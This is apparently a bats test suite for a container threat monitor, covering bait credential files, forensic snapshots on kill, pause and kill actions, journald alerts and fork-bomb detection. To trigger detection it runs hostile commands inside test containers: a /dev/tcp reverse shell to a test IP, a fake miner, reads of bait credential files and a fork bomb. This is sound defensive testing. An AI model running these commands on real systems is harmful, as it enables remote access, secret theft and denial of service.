#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# What is done about threats: baits, what is kept of a container that was killed, who is
# told, and what is refused before it happens.

setup_file() {
	load ../lib/common
	coi_setup
}

teardown_file() {
	load ../lib/common
	coi_teardown
}

setup() {
	load ../lib/common
	load ../lib/watched
	cd "$T/ws"
	A=$HOME/.coi/audit
}

settings() { # LINE... of [monitoring]
	printf '[container]\ninit = "coi-init"\n[monitoring]\nenabled = true\n' >"$HOME/.coi/config.toml"
	printf '%s\n' "$@" >>"$HOME/.coi/config.toml"
}

# As a person's tool would: no program that a rule knows, nothing on the command line.
BAITS="/root/.aws/credentials /root/.pypirc /root/.ssh/id_ed25519_deploy /root/.vault-token"

@test "canaries: planted where nothing is, unique, and a touch is critical" {
	settings 'canaries = true'
	launch c1
	launch c2
	for f in $BAITS; do
		# stat is no touch; each looks as its owner would have it.
		[ "$(inside c1 stat -c '%a %u %s' "$f" | cut -d' ' -f1,2)" = "600 0" ]
		[ "$(inside c1 stat -c %s "$f")" -gt 20 ]
	done
	[ "$(inside c1 stat -c '%a %u' /home/code/.ssh /home/code/.aws/credentials | xargs)" = "700 1000 600 1000" ]
	# A listing, a search by name and a new file beside them are ordinary work.
	inside c1 sh -c 'ls -la /root /root/.ssh >/dev/null; find /root -name "*.txt"; echo h >>/root/.ssh/known_hosts; mkdir /root/.aws/x'
	coi container running c1
	# The other one's are other ones (read from outside: nobody is to be told of that).
	cmp "$COI_ROOT/containers/c1/canaries/root/.vault-token" "$COI_ROOT/containers/c2/canaries/root/.vault-token" && false
	read_quietly c1 /root/.vault-token || true
	within 10 not_running c1
	has "$A/c1.jsonl" '.level == "critical" and .action == "killed" and .title == "Bait taken" and
		.evidence.sensitive_file.path == "/root/.vault-token"'
	coi container running c2
	gone c1
	gone c2
}

@test "canaries: by another name, another mount or another program it is the same file" {
	settings 'canaries = true' 'auto_kill_on_critical = false' 'auto_pause_on_high = false'
	launch c3
	local n=0 f
	for how in 'ln /root/.vault-token /tmp/x; read y </tmp/x' \
		'unshare -m sh -c "mkdir -p /tmp/b; mount --bind /root /tmp/b; read y </tmp/b/.pypirc"' \
		'mv /root/.aws /root/a; cp /root/a/credentials /tmp/z' \
		'tar cf /dev/null /home/code/.ssh' \
		'echo x >/home/code/.pypirc'; do
		inside c3 sh -c "$how" || true
	done
	for f in /root/.vault-token /root/.pypirc /root/.aws/credentials /home/code/.ssh/id_ed25519_deploy /home/code/.pypirc; do
		within 10 has "$A/c3.jsonl" '.title == "Bait taken" and .evidence.sensitive_file.path == "'"$f"'"'
	done
	gone c3
}

@test "canaries: a file of one's own is left alone, and nothing of them is left" {
	settings 'canaries = true' 'auto_pause_on_high = false'
	coi container launch coi-default c4
	inside c4 sh -c 'mkdir -p -m 700 /home/code/.aws; rm -f /root/.vault-token; echo mine >/root/.vault-token'
	coi container stop --force c4
	[ ! -e "$COI_ROOT/containers/c4/canaries" ]
	find "$COI_ROOT/containers/c4" -name .pypirc -o -name credentials -o -name 'id_ed25519*' | (! grep .)
	# Its own file is its own: reading it is nobody's business.
	coi container start c4
	[ "$(inside c4 bash -c 'f=/root/.vault; read -r x <"$f-token"; echo "$x"')" = mine ]
	inside c4 test -s /root/.pypirc
	coi container running c4
	# A snapshot while it runs, and an image of it, have none.
	coi snapshot create now -c c4
	coi container stop --force c4
	coi image publish c4 published >/dev/null
	settings 'canaries = false' 'auto_pause_on_high = false'
	coi container start c4
	inside c4 test ! -e /root/.pypirc
	gone c4
	coi container launch published c5
	inside c5 sh -c 'test ! -e /root/.pypirc && test ! -e /home/code/.ssh/id_ed25519_deploy && test -s /root/.vault-token'
	gone c5
	coi image delete published >/dev/null
}

@test "canaries: a supervisor that takes over knows them, and a crash leaves none" {
	settings 'canaries = true' 'auto_kill_on_critical = false' 'auto_pause_on_high = false'
	launch c6
	kill -9 "$(sed -n 's/^supervisor *= *\([0-9]*\).*/\1/p' "$COI_ROOT/containers/c6/container.ini")"
	gap_told() { coi container running c6 && has "$A/c6.jsonl" '.msg == "source.gap"'; }
	within 20 gap_told
	taken() { read_quietly c6 /root/.pypirc; has "$A/c6.jsonl" '.title == "Bait taken"'; }
	within 20 taken
	kill -9 "$(sed -n 's/^supervisor *= *\([0-9]*\).*/\1/p' "$COI_ROOT/containers/c6/container.ini")" \
		"$(sed -n 's/^init *= *\([0-9]*\).*/\1/p' "$COI_ROOT/containers/c6/container.ini")"
	stopped() { [ "$(coi container list --format json | jq -r '.[] | select(.name == "c6").status')" = Stopped ]; }
	within 20 stopped
	[ ! -e "$COI_ROOT/containers/c6/canaries" ]
	gone c6
}

# As on a machine that is slow: all of it has happened before any of it is judged.
late() { # NAME COMMAND...
	local pid
	pid=$(watcher_of "$1")
	kill -STOP "$pid"
	inside "$@" || true
	kill -CONT "$pid"
}

actions() { # NAME
	jq -r 'select(.action == "paused" or .action == "killed").action' "$A/$1.jsonl" | uniq | xargs
}

@test "frozen for what is high: what is critical and still to be heard kills it" {
	settings 'canaries = true'
	# A program by its name, then a shell on a socket: both from the ring of programs.
	launch z1
	printf 'ln -s /bin/sleep /tmp/xmrig; /tmp/xmrig 0\nexec 3<>/dev/tcp/public.test/80\ntimeout 1 sh <&3 >&3 2>&3\n' >"$T/ws/x"
	coi file push "$T/ws/x" z1:/tmp/x
	late z1 bash /tmp/x
	within 10 not_running z1
	[ "$(actions z1)" = "paused killed" ]
	gone z1
	# The bait's name on a command line, then the bait: from two sources.
	launch z2
	late z2 cat /root/.vault-token
	within 10 not_running z2
	has "$A/z2.jsonl" '.action == "killed" and .title == "Bait taken"'
	gone z2
}

@test "frozen before it took the bait: it takes it when it is let go, and is killed" {
	settings 'canaries = true'
	launch z3
	# Frozen by its second program, with the third at hand.
	inside z3 bash -c 'ln -s /bin/sleep /tmp/xmrig; /tmp/xmrig 0.5; read -r x </root/.vault-token; touch /root/free' 3>&- >/dev/null 2>&1 &
	local pid=$!
	within 10 frozen z3
	[ "$(actions z3)" = paused ]
	coi unfreeze z3
	within 10 not_running z3
	[ "$(actions z3)" = "paused killed" ]
	wait "$pid" || true
	gone z3
}

written() { # NAME: bytes
	cat "$COI_ROOT/containers/$1"/upper/root/n[1-4] | wc -c
}

@test "what is frozen does nothing more when it is killed" {
	local pid before n
	settings 'auto_kill_on_critical = false'
	for n in 1 2 3; do
		launch y1
		inside y1 bash -c 'for i in 1 2 3 4; do (while :; do printf x; done >/root/n$i) & done; wait' 3>&- >/dev/null 2>&1 &
		pid=$!
		writes() { [ "$(written y1)" -gt 0 ]; }
		within 10 writes
		inside y1 ln -s /bin/sleep /tmp/xmrig
		(inside y1 /tmp/xmrig 60 3>&- >/dev/null 2>&1 || true) &
		within 10 frozen y1
		before=$(written y1)
		coi container stop --force y1
		[ "$(written y1)" = "$before" ]
		wait "$pid" || true
		gone y1
	done
}

@test "canaries: programs at their ordinary work do not touch them" {
	settings 'canaries = true'
	launch c7
	inside c7 bash -c 'cd /home/code && git init -q x && cd x && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git ls-remote https://203.0.113.10/x' || true
	inside c7 sh -c 'command -v ssh >/dev/null && ssh -o BatchMode=yes -o ConnectTimeout=1 203.0.113.10; command -v curl >/dev/null && curl -sm 1 http://203.0.113.10/; command -v python3 >/dev/null && python3 -c "import netrc, os; print(1)"; du -s /root /home; true' || true
	# The alarm is there: it is the next thing that is done.
	coi container running c7
	not has "$A/c7.jsonl" '.title == "Bait taken"'
	read_quietly c7 /home/code/.ssh/id_ed25519_deploy || true
	within 10 not_running c7
	gone c7
}

attack() { # NAME
	inside "$1" bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >/dev/null 2>&1 || true
	within 10 not_running "$1"
}

kept() { # NAME [COUNT]: so many snapshots of it as it was killed are there
	[ "$(coi snapshot list -c "$1" --format json | jq -r '.. | .name? // empty' |
		grep -c '^forensics-')" = "${2:-1}" ]
}

cleaned() { # NAME: no supervisor of it is left
	coi container list --format json | jq -e --arg n "$1" '.[] | select(.name == $n).status == "Stopped"'
}

@test "forensics_on_kill: the files of that moment are kept, three times at most, and that is told" {
	local i names
	settings 'forensics_on_kill = true'
	launch f1
	for i in 1 2 3 4; do
		inside f1 bash -c 'echo loot >/root/loot'
		# The clock was put back since: the newest is the newest all the same.
		[ "$i" != 4 ] || sed -i 's/^\(created *= *\)[0-9]*/\12099/' "$COI_ROOT"/containers/f1/snapshots/*.ini
		attack f1
		within 10 cleaned f1
		within 10 kept f1 $((i < 3 ? i : 3))
		[ "$i" = 4 ] || coi container start f1
	done
	[ "$(grep -l '^created *= *2099' "$COI_ROOT"/containers/f1/snapshots/*.ini | wc -l)" = 2 ]
	told() { [ "$(grep -c "its files as snapshot 'forensics-" "$HOME/.coi/logs/f1.session.log")" = 4 ]; }
	within 10 told
	coi logs f1 | grep "its files as snapshot 'forensics-"
	coi snapshot list -c f1 --format json | grep -q 'when monitoring killed it: [A-Z]'
	has "$A/f1.jsonl" '.type == "snapshot.create" and (.snapshot | startswith("forensics-"))'
	# What a later start does is not in them.
	names=$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep '^forensics-' | tail -n 1)
	coi container start f1
	inside f1 rm /root/loot
	coi container stop --force f1
	coi snapshot restore -c f1 --force "$names"
	coi container start f1
	[ "$(inside f1 cat /root/loot)" = loot ]
	gone f1
}

@test "forensics_on_kill: one that would have gone is kept, and nobody goes on in it" {
	settings 'forensics_on_kill = true'
	local name i
	name=$(container_name)
	coi run -- bash -c 'echo loot >/tmp/loot; echo "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60" >/tmp/x; x=$(cat /tmp/x); bash -c "$x"' 3>&- >"$T/out" 2>&1 || true
	within 10 cleaned "$name"
	within 10 kept "$name"
	coi diff "$name" | grep -q /tmp/loot
	# The next one of the workspace is another one.
	[ "$(coi run -- hostname 2>/dev/null)" != "$name" ]
	# Once it is taken up again it is not there for that alone.
	coi container start "$name"
	coi container exec "$name" -- sh -c 'echo work >/tmp/work'
	coi container stop --force "$name"
	# No more than three of the others.
	for i in 1 2 3 4; do
		coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >/dev/null 2>&1 || true
	done
	three() { [ "$(coi container list --format json | jq --arg n "$name" '[.[] | select(.status == "Stopped" and .name != $n)] | length')" = 3 ]; }
	# Three there are before the oldest has gone, too: when nobody is at it any more.
	within 20 quiet
	three
	coi container start "$name"
	[ "$(coi container exec "$name" -- cat /tmp/work)" = work ]
	coi container stop --force "$name"
	coi clean --force
	[ "$(coi container list --format json | jq 'length')" = 0 ]
}

@test "one that monitoring killed: every command that misses it says so" {
	# The port is known, too: it is killed for whatever is told first.
	settings
	local for_what="Reverse shell|Port of command and control"
	local name
	make_workspace "$T/killed" # nobody else was killed in it
	cd "$T/killed"
	name=$(container_name)
	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >"$T/out" 2>&1 || true
	grep -Eq "Warning: container .$name.: monitoring killed it at 20.*: ($for_what)" "$T/out"
	missing() { ! coi container exists "$name"; }
	within 10 missing
	for command in "attach $name" "unfreeze $name" "container exec $name -- true" "tmux capture $name"; do
		# shellcheck disable=SC2086
		run ! --separate-stderr coi $command
		echo "$command: $stderr"
		grep -Eq "monitoring killed it at 20.*: ($for_what)" <<<"$stderr"
		grep -q "coi audit $name --level high" <<<"$stderr"
	done
	run -0 coi list
	grep -q "$name is not there any more: monitoring killed it at" <<<"$output"
	run -0 coi attach
	grep -q "$name: monitoring killed it at" <<<"$output"
	run -0 coi audit "$name" --level critical --format text
	grep -Eq "($for_what).*\[killed\]" <<<"$output"
	# A kept one says it where it is shown; a start is the end of that.
	launch coi-s1
	attack coi-s1
	within 10 cleaned coi-s1
	coi list --format json | jq -e '.active_containers[] | select(.name == "coi-s1").killed | test("monitoring killed it at")'
	run ! --separate-stderr coi attach coi-s1
	grep -q "monitoring killed it" <<<"$stderr"
	run ! --separate-stderr coi unfreeze coi-s1
	grep -q "not frozen: monitoring killed it" <<<"$stderr"
	coi container start coi-s1
	coi list | (! grep "Ended:")
	gone coi-s1
	run ! --separate-stderr coi attach coi-s1
	not grep -q monitoring <<<"$stderr"
}

@test "who waits for a command is told when its container is paused" {
	settings 'auto_pause_on_high = true' 'auto_kill_on_critical = false'
	local name pid
	make_workspace "$T/paused"
	cd "$T/paused"
	name=$(container_name)
	# Many short sleeps: one long one would be over when it goes on, before that is told.
	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; for i in {1..30}; do sleep 0.1; done; echo went on' 3>&- >"$T/out" 2>"$T/told" &
	pid=$!
	within 30 grep -q "'$name' is paused.*'coi unfreeze $name'" "$T/told"
	run -0 --separate-stderr coi unfreeze "$name"
	grep -q "was frozen for: " <<<"$stderr$output"
	# The connection is a threat of its own, and may come after the shell's.
	let_go() { coi unfreeze "$name" || true; grep -qx "went on" "$T/out"; }
	within 30 let_go
	wait $pid
	grep -q "'$name' goes on" "$T/told"
}

# A journal of the test's own, where the host's would be.
journal() { # FILE: datagrams, one after the other
	/usr/bin/python3 -c 'import os, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind("/run/systemd/journal/socket")
with open(sys.argv[1], "ab", 0) as f:
    while True:
        f.write(s.recv(300000) + b"\n")' "$1" 3>&- &
	JOURNAL=$!
	within 10 test -S /run/systemd/journal/socket
}

@test "audit_sinks: journald has the threat, and one that is not there is said and holds nobody up" {
	settings 'audit_sinks = ["journald"]'
	mkdir -p /run/systemd
	mount -t tmpfs none /run/systemd
	mkdir /run/systemd/journal
	launch j1
	grep -q "records of 'j1' do not reach journald now: No such file or directory" "$T/launch.err"
	journal "$T/journal"
	attack j1
	read_it() { grep -q 'MESSAGE=.*Reverse shell' "$T/journal" && grep -q '^COI_CONTAINER=j1$' "$T/journal"; }
	within 10 read_it
	grep -q '^PRIORITY=2$' "$T/journal"
	grep -q '^COI_CONTAINER=j1$' "$T/journal"
	grep -q '[0-9] records of coi did not reach journald' "$T/journal"
	sed -n 's/^COI_RECORD=//p' "$T/journal" | jq -se 'any(.[]; .level == "critical" and .action == "killed")'
	# What the container runs is in its file, and there alone.
	has "$A/j1.jsonl" '.type == "exec"'
	not grep -q '"type":"exec"' "$T/journal"
	kill "$JOURNAL"
	gone j1
	umount /run/systemd
}

@test "a fork bomb: frozen as soon as it passes the rate, while the host answers" {
	settings 'process_spawn_rate_threshold = 300'
	printf '[limits.runtime]\nmax_processes = 1500\n' >>"$HOME/.coi/config.toml"
	launch b1
	# Written so that no rule about texts knows it: processes that run no program.
	inside b1 bash -c 'mkfifo /tmp/f; while :; do (read -r x <>/tmp/f) & done' 3>&- >/dev/null 2>&1 &
	local pid=$!
	told() { has "$A/b1.jsonl" '.level == "high" and .title == "Many new processes" and .action == "paused"'; }
	within 20 told
	frozen() { [ "$(coi container list --format json | jq -r '.[] | select(.name == "b1").status')" = Frozen ]; }
	within 20 frozen
	within 10 grep -q 'Many new processes: frozen' "$HOME/.coi/logs/b1.session.log"
	echo "# $(grep -o 'Many new processes: frozen.*' "$HOME/.coi/logs/b1.session.log")," \
		"$(jq -r 'select(.title == "Many new processes").evidence.process_count.count' "$A/b1.jsonl" | head -n 1)" \
		"processes were made by then" >&3
	# It was recorded before it was frozen, and another container still starts.
	launch b2
	inside b2 /bin/true
	gone b2
	gone b1
	wait "$pid" || true
}
